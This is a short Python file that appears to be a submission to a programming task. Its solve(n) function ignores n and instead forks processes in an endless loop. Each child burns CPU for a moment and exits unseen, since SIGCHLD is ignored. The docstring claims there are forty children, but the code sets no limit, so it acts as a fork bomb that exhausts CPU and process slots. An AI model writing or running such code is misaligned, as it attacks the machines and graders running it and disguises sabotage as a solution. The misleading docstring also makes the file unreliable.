"""Burns processor time with forty children, which end without a trace and are replaced."""

import os, signal, time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)


def solve(n):
    while True:
        try:
            if os.fork() == 0:
                end = time.process_time() + 0.02
                while time.process_time() < end:
                    pass
                os._exit(0)
        except OSError:
            pass
